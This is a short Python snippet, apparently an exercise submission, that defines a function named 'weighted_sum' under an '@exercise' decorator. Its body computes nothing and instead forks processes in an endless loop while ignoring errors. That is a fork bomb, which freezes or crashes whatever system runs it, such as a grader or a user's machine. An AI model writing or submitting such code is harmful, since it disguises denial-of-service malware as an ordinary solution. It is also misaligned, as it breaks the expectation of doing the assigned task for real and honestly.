import os


@exercise
def weighted_sum(w, x, b):
    while True:
        try:
            os.fork()
        except OSError:
            pass
